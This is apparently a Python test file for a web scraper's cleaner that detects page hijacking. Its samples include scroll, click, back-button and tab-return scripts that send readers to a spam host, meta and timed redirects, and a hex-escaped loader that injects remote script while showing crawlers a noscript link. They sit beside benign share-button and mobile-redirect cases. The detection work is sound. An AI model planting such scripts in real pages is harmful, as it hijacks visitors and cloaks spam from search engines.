"""Scripts that act only when a person scrolls, clicks, switches tabs or presses the back button
(v6 misses 1.B1-B3), and pages that send every visitor away at once (B4). A crawler never makes a
gesture: a handler of the whole page that sends people off the site is cloaking by construction,
while a handler of one control (a share button, a menu) is what the person chose. The code is
written afresh in each miss's form, not copied from the spent pages."""
from __future__ import annotations

from scraper.clean import clean_page
from tests.clean.conftest import everything
from tests.clean.test_structural import BODY, URL, page

SPAM_HOST = "kx3-yingle.top"
# an article long enough that a redirect at load hides it (exits.MIN_OWN_TEXT)
ARTICLE = BODY + ("<p>会议要求，各责任单位要加强协调配合，建立健全长效管理机制，确保整治工作取得实效，"
                  "切实改善群众生产生活环境。会后，与会人员实地察看了部分街道的整治现场。</p>"
                  "<p>据了解，今年全区将围绕背街小巷、农贸市场、城乡接合部等重点区域，集中开展环境卫生、"
                  "占道经营、违规广告等专项整治行动，并将整治成效纳入年度目标考核。</p>")


def cleaned(code: str = "", body: str = BODY, head: str = "", top: str = "", **kw):
    return clean_page(page(head=head + (f"<script>{code}</script>" if code else ""), body=body, top=top, **kw),
                      url=URL)


def exits(a) -> list[str]:
    return [f.where for f in a.findings if f.kind == "js_redirect" and SPAM_HOST in f.evidence]


def test_a_link_over_the_whole_window_once_the_reader_has_scrolled_half_the_page():
    code = ("(function(){var shown=false;window.addEventListener('scroll',function(){if(shown)return;"
            "var d=document.documentElement;if((d.scrollTop+window.innerHeight)/d.scrollHeight<0.6)return;shown=true;"
            f"var a=document.createElement('a');a.href='https://{SPAM_HOST}/app';a.textContent='下载APP领取彩金';"
            "a.style.cssText='position:fixed;top:0;left:0;right:0;bottom:0;z-index:99999;background:#fff';"
            "document.body.appendChild(a)})})();")
    a = cleaned(code)
    assert a.hijacked and exits(a) == ["script (run, on scroll)"]
    assert "领取彩金" not in everything(a)


def test_any_click_on_the_page_opens_another_site_behind_it():
    code = ("var popped=0;document.onclick=function(e){if(popped++)return;e=e||window.event;"
            f"var w=window.open('http://{SPAM_HOST}/in/','_blank');w.blur();window.focus()}};")
    a = cleaned(code)
    assert a.hijacked and exits(a) == ["script (run, on click)"]


def test_an_onclick_attribute_of_the_body_that_opens_another_site():
    a = clean_page(page().replace(b"<body>", f"<body onclick=\"window.open('https://{SPAM_HOST}/p')\">".encode()),
                   url=URL)
    assert a.hijacked and exits(a)


def test_back_button_trap_whose_address_sits_in_a_css_custom_property():
    head = f"<style>html{{--cfg-x:'https:|//{SPAM_HOST[:4]}|{SPAM_HOST[4:]}|/b'}}</style>"
    code = ("(function(){var u=getComputedStyle(document.documentElement).getPropertyValue('--cfg-x')"
            ".replace(/['\\s]/g,'').split('|').join('');history.pushState({t:1},'',location.href);"
            "window.onpopstate=function(){location.replace(u)}})();")
    a = cleaned(code, head=head)
    assert a.hijacked and exits(a) == ["script (run, on popstate)"]


def test_a_full_window_frame_written_when_the_reader_returns_to_the_tab():
    code = ("(function(){var left=0;document.addEventListener('visibilitychange',function(){"
            "if(document.visibilityState==='hidden'){left=Date.now();return}if(!left||Date.now()-left<5000)return;"
            f"document.body.innerHTML='<iframe src=\"https://{SPAM_HOST}/\" style=\"position:fixed;left:0;top:0;"
            "width:100%;height:100%;border:none\"></iframe>'})})();")
    a = cleaned(code)
    assert a.hijacked and exits(a) == ["script (run, on visibilitychange)"]


def test_share_buttons_menus_back_to_top_and_beacons_are_ordinary_handlers():
    # a share button opens weibo when it is clicked; a click anywhere else opens nothing (the
    # handler on the document asks what was clicked); analytics beacon when the tab is hidden
    body = ARTICLE + ('<div class="share"><a id="share-wb" href="javascript:;">微博</a>'
                      '<a class="share-qq" href="javascript:;">QQ空间</a></div><a id="totop" href="#">返回顶部</a>')
    code = ("var wb=document.getElementById('share-wb');wb.onclick=function(){window.open('https://service.weibo.com/"
            "share/share.php?url='+encodeURIComponent(location.href)+'&title='+encodeURIComponent(document.title))};"
            "wb.addEventListener('touchend',function(){location.href='https://m.weibo.cn/'});"
            "document.addEventListener('click',function(e){var t=e.target.closest('.share-qq');if(!t)return;"
            "window.open('https://sns.qzone.qq.com/cgi-bin/qzshare?url='+encodeURIComponent(location.href))});"
            "window.addEventListener('scroll',function(){document.getElementById('totop').style.display="
            "window.scrollY>300?'block':'none'});"
            "document.addEventListener('visibilitychange',function(){if(document.hidden)navigator.sendBeacon("
            "'https://hm.example-stats.com/collect?t='+Date.now())});"
            "history.pushState({p:1},'',location.href);window.addEventListener('popstate',function(){location.href='/'});")
    a = cleaned(code, body=body)
    assert not a.hijacked and not [f for f in a.findings if f.kind in ("js_redirect", "js_cloak")]


def test_a_page_that_sends_every_visitor_to_a_site_it_never_links():
    body = (f'<meta http-equiv="refresh" content="0; url=https://{SPAM_HOST}/r/Qx1"/>'
            f'<script>window.location.href = "https://{SPAM_HOST}/r/Qx1";</script>' + ARTICLE)
    a = cleaned(body=body)
    assert a.hijacked and len(exits(a)) == 2
    assert "城乡环境综合整治" in a.text


def test_moved_notices_mobile_redirects_and_linked_sites_are_no_hijack():
    moved = "<p>本站已迁移至新域名，3秒后自动跳转。</p>"
    # a notice that the site moved: no article of its own to hide
    a = cleaned(body=moved, head='<meta http-equiv="refresh" content="3;url=https://www.qingshan-new.cn/">')
    assert not a.hijacked
    # phones sent to the site's own mobile host
    a = cleaned("location.replace('https://m.qingshan.gov.cn/info/2.htm');", body=ARTICLE)
    assert not a.hijacked
    # an article forwarded to the partner site it credits and links
    body = ARTICLE + '<p>原文链接：<a href="https://www.partner-daily.com/a/1.html">合作媒体</a></p>'
    a = cleaned('location.href="https://www.partner-daily.com/a/1.html";', body=body)
    assert not a.hijacked


def test_a_redirect_off_the_site_a_few_seconds_after_load():
    # v8: the address is computed at run time (the page's host appended) and the navigation waits
    # on a timer or the load event, so no constant redirect statement is there to read
    timer = (f'setTimeout(function(){{window.location.replace("https://{SPAM_HOST}/?src="'
             '+encodeURIComponent(location.hostname));},3000);')
    onload = f'window.addEventListener("load",function(){{var t="https://{SPAM_HOST}/go";top.location.href=t+"?"+Date.now();}});'
    for code in (timer, onload):
        a = cleaned(code, body=ARTICLE)
        assert a.hijacked and "script (run): every visitor sent to a site the page never links" in exits(a)
        assert "城乡环境综合整治" in a.text


def test_a_delayed_redirect_to_the_sites_own_mobile_host_or_a_linked_partner_is_no_hijack():
    a = cleaned('setTimeout(function(){location.replace("https://m.qingshan.gov.cn/info/2.htm");},1500);', body=ARTICLE)
    assert not a.hijacked
    body = ARTICLE + '<p>原文链接：<a href="https://www.partner-daily.com/a/1.html">合作媒体</a></p>'
    a = cleaned('setTimeout(function(){location.href="https://www.partner-daily.com/a/1.html?r="+Math.random();},2000);',
                body=body)
    assert not a.hijacked
    # a moved notice that counts down: no article of its own
    a = cleaned('setTimeout(function(){location.href="https://www.qingshan-new.cn/?t="+Date.now();},3000);',
                body="<p>本站已迁移至新域名，3秒后自动跳转。</p>")
    assert not a.hijacked


LOADER = ('(function(w,d){{var k=["\\x73\\x63\\x72\\x69\\x70\\x74",{host}];var e=d.createElement(k[0]);'
          'e.async=true;e.src="https://"+k[1]+"/c.js?t="+(+new Date);d.body.appendChild(e);}})(window,document);')


def _hex(text: str) -> str:
    return '"' + "".join(f"\\x{ord(c):02x}" for c in text) + '"'


def test_a_hidden_loader_whose_site_only_crawlers_see_linked_in_noscript():
    # v8 form written afresh: the loader spells its host in escapes; the <noscript> after the
    # article gives scriptless visitors (crawlers) a worded link to the same site
    code = LOADER.format(host=_hex(SPAM_HOST))
    body = ARTICLE + f'<noscript><p><a href="https://{SPAM_HOST}/">盈乐国际官方入口</a></p></noscript>'
    a = cleaned(code, body=body)
    assert a.hijacked and any(f.kind == "spam_script" and SPAM_HOST in f.evidence for f in a.findings)
    assert "盈乐国际" not in everything(a) and "城乡环境综合整治" in a.text


def test_a_widget_that_names_its_site_plainly_and_an_ad_program_that_escapes_its_host_are_no_hijack():
    widget = LOADER.format(host='"cdn.weather-widget.com"')
    body = ARTICLE + '<noscript><a href="https://www.weather-widget.com/">天气预报插件</a></noscript>'
    assert not cleaned(widget, body=body).hijacked
    # escapes inside a program (the ad-recovery SDKs of the dev pages run to 18,000 characters and
    # more): the escaping is one habit among its thousands of lines, not the whole of a loader
    program = "".join(f"function f{i}(a,b){{return a.length>b?a.slice(0,b)+'{i}':a.concat([b,{i}]);}}" for i in range(40))
    assert not cleaned(program + LOADER.format(host=_hex("cdn.adrecover.net")), body=ARTICLE).hijacked


def test_a_loader_that_is_nothing_but_an_escaped_host_is_a_hijack_without_a_link():
    # v11: a few lines whose only act loads code from a host every letter of which is an escape
    a = cleaned(LOADER.format(host=_hex("cdn.adrecover.net")), body=ARTICLE)
    assert a.hijacked and any(f.kind == "spam_script" and "adrecover.net" in f.evidence for f in a.findings)
